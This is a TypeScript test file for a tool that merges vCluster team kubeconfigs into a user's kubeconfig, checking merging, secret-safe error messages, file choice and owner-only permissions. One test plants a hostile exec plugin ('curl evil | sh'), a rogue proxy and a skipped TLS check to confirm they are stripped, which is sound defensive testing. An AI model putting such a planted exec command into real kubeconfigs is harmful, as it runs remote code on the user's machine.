import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { parse, stringify } from 'yaml';
import { kubeconfigTarget, writeKubeconfigText } from './vcluster-file.ts';
import { houseEntries, mergedKubeconfig } from './vcluster-kubeconfig.ts';

/** A kubeconfig of the shape vCluster writes into the Secret vc-<team> (key config). */
function houseKubeconfig(server = 'https://127.80.1.2:443') {
  return stringify({
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [{ name: 'my-vcluster', cluster: { server, 'certificate-authority-data': 'Q0E=' } }],
    users: [
      {
        name: 'my-vcluster',
        user: { 'client-certificate-data': 'Q0VSVA==', 'client-key-data': 'S0VZ', 'client-certificate': '/data/x' },
      },
    ],
    contexts: [{ name: 'my-vcluster', context: { cluster: 'my-vcluster', user: 'my-vcluster' } }],
    'current-context': 'my-vcluster',
  });
}

/** The user's own kubeconfig, with a current context and a comment-free layout kubectl would write. */
const userKubeconfig = stringify({
  apiVersion: 'v1',
  kind: 'Config',
  clusters: [{ name: 'prod', cluster: { server: 'https://prod:6443' } }],
  users: [{ name: 'me', user: { token: 'mine' } }],
  contexts: [{ name: 'prod', context: { cluster: 'prod', user: 'me', namespace: 'default' } }],
  'current-context': 'prod',
  preferences: { colors: true },
});

type Entry = {
  name: string;
  cluster?: Record<string, unknown>;
  user?: Record<string, unknown>;
  context?: Record<string, unknown>;
};
/** A kubeconfig as the tests read it back. */
type Written = Record<string, unknown> & { clusters: Entry[]; users: Entry[]; contexts: Entry[] };
const read = (text: string) => parse(text) as Written;

const temporary = () => mkdtempSync(join(tmpdir(), 'landlord-vcluster-'));

describe("a house's kubeconfig entries", () => {
  it('take the server, CA and client certificate of its current context, renamed vcluster-<team>', () => {
    const entries = houseEntries('devteam-h', houseKubeconfig());
    assert.equal(entries.name, 'vcluster-devteam-h');
    assert.equal(entries.server, 'https://127.80.1.2:443');
    assert.deepEqual(entries.cluster, { server: 'https://127.80.1.2:443', 'certificate-authority-data': 'Q0E=' });
    // A file path in the Secret names a file of the house's pod, never of this machine: left out.
    assert.deepEqual(entries.user, { 'client-certificate-data': 'Q0VSVA==', 'client-key-data': 'S0VZ' });
  });

  it("never carry a command, a proxy or a skipped TLS check from the Secret onto the reader's machine", () => {
    const planted = read(houseKubeconfig());
    planted.clusters = [
      {
        name: 'my-vcluster',
        cluster: { server: 'https://h:443', 'proxy-url': 'http://evil:3128', 'insecure-skip-tls-verify': true },
      },
    ];
    planted.users = [
      {
        name: 'my-vcluster',
        user: {
          'client-certificate-data': 'Q0VSVA==',
          'client-key-data': 'S0VZ',
          exec: { apiVersion: 'client.authentication.k8s.io/v1', command: 'sh', args: ['-c', 'curl evil | sh'] },
          'auth-provider': { name: 'oidc', config: { 'idp-issuer-url': 'https://evil' } },
        },
      },
    ];
    const entries = houseEntries('t1', stringify(planted));
    assert.deepEqual(entries.cluster, { server: 'https://h:443' });
    assert.deepEqual(entries.user, { 'client-certificate-data': 'Q0VSVA==', 'client-key-data': 'S0VZ' });
  });

  it('refuse a kubeconfig without credentials or server, never quoting it (it holds a private key)', () => {
    const noUser = stringify({ clusters: [{ name: 'a', cluster: { server: 'https://h' } }], users: [] });
    assert.throws(() => houseEntries('t1', noUser), /Secret vc-t1, key config\) names no user/);
    const keyOnly = read(houseKubeconfig());
    keyOnly.users = [{ name: 'my-vcluster', user: { 'client-key-data': 'SECRETKEY' } }];
    assert.throws(
      () => houseEntries('t1', stringify(keyOnly)),
      (error: Error) =>
        /neither an inline client certificate nor a token/.test(error.message) && !/SECRETKEY/.test(error.message),
    );
    assert.throws(() => houseEntries('t1', houseKubeconfig('http://plain:80')), /no https:\/\/ server address/);
    assert.throws(
      () => houseEntries('t1', 'key: "SECRET\n  bad: [unclosed'),
      (error: Error) => error.message.endsWith('is not YAML') && !error.message.includes('SECRET'),
    );
  });
});

describe('merging a house into a kubeconfig', () => {
  const entries = houseEntries('devteam-h', houseKubeconfig());

  it('adds the cluster, user and context, keeps everything else and the current context', () => {
    const merged = read(mergedKubeconfig(userKubeconfig, entries, 'f'));
    assert.equal(merged['current-context'], 'prod');
    assert.deepEqual(merged.preferences, { colors: true });
    assert.deepEqual(
      merged.contexts.map((c) => c.name),
      ['prod', 'vcluster-devteam-h'],
    );
    assert.deepEqual(merged.contexts[1]?.context, { cluster: 'vcluster-devteam-h', user: 'vcluster-devteam-h' });
    assert.equal(merged.clusters[1]?.cluster?.server, 'https://127.80.1.2:443');
    assert.equal(merged.users[0]?.user?.token, 'mine');
    assert.equal(merged.users[1]?.user?.['client-certificate-data'], 'Q0VSVA==');
  });

  it('replaces the house entries in place when connecting again (new certificate, same names, no duplicates)', () => {
    const once = mergedKubeconfig(userKubeconfig, entries, 'f');
    const renewed = { ...entries, user: { 'client-certificate-data': 'TkVX', 'client-key-data': 'S0VZ' } };
    const twice = read(mergedKubeconfig(once, renewed, 'f'));
    assert.equal(twice.users.length, 2);
    assert.equal(twice.contexts.length, 2);
    assert.equal(twice.users[1]?.user?.['client-certificate-data'], 'TkVX');
  });

  it('starts a new file with no current context', () => {
    const fresh = read(mergedKubeconfig('', entries, 'f'));
    assert.equal(fresh.apiVersion, 'v1');
    assert.equal(fresh.kind, 'Config');
    assert.equal(fresh['current-context'], undefined);
    assert.equal(fresh.contexts[0]?.name, 'vcluster-devteam-h');
  });

  it('refuses a file that is not a kubeconfig, naming the file and not quoting it', () => {
    assert.throws(
      () => mergedKubeconfig('- a list', entries, '/home/me/.kube/config'),
      /\/home\/me\/.kube\/config: a kubeconfig must be a mapping/,
    );
    assert.throws(() => mergedKubeconfig('contexts: 3', entries, 'cfg'), /cfg: contexts must be a list/);
    assert.throws(
      () => mergedKubeconfig('token: "abc\nzz: [', entries, 'cfg'),
      (error: Error) => error.message.startsWith('cfg: not a readable kubeconfig') && !error.message.includes('\n'),
    );
  });
});

describe('the kubeconfig file connect writes', () => {
  it('is --kubeconfig-out, else --kubeconfig, else the first existing file of KUBECONFIG, else ~/.kube/config', () => {
    const dir = temporary();
    const [a, b] = [join(dir, 'a'), join(dir, 'b')];
    writeFileSync(b, '');
    assert.equal(kubeconfigTarget({ kubeconfigOut: 'out', kubeconfig: 'in' }, {}, dir), 'out');
    assert.equal(kubeconfigTarget({ kubeconfig: 'in' }, { KUBECONFIG: b }, dir), 'in');
    assert.equal(kubeconfigTarget({}, { KUBECONFIG: `${a}:${b}` }, dir), b);
    // None exists: kubectl writes to the last.
    assert.equal(kubeconfigTarget({}, { KUBECONFIG: `${a}:${join(dir, 'c')}` }, dir), join(dir, 'c'));
    assert.equal(kubeconfigTarget({}, {}, '/home/me'), '/home/me/.kube/config');
  });

  it('is written owner-only (0600), its folder made, through a symbolic link to its target', () => {
    const dir = temporary();
    const fresh = join(dir, 'new', '.kube', 'config');
    writeKubeconfigText(fresh, 'a: 1\n');
    assert.equal(statSync(fresh).mode & 0o777, 0o600);
    const target = join(dir, 'real');
    writeFileSync(target, 'old', { mode: 0o644 });
    symlinkSync(target, join(dir, 'link'));
    writeKubeconfigText(join(dir, 'link'), 'b: 2\n');
    assert.equal(readFileSync(target, 'utf8'), 'b: 2\n');
    assert.equal(statSync(target).mode & 0o777, 0o600);
  });
});
